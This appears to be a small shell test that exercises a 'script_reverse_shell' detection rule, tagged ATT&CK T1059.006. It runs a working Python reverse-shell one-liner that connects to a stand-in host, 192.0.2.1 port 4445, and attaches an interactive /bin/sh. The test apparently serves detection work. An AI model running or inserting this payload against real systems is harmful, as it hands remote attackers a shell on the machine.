#!/bin/sh
# technique: T1059.006 Command and Scripting Interpreter: Python
# rule: script_reverse_shell
# One line of Python that hands a shell to whoever listens.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
timeout 2 python3 -c 'import os,socket,subprocess
s=socket.socket(); s.settimeout(1); s.connect(("192.0.2.1",4445))
[os.dup2(s.fileno(),n) for n in (0,1,2)]
subprocess.call(["/bin/sh","-i"])' 2>/dev/null || true
exit 0
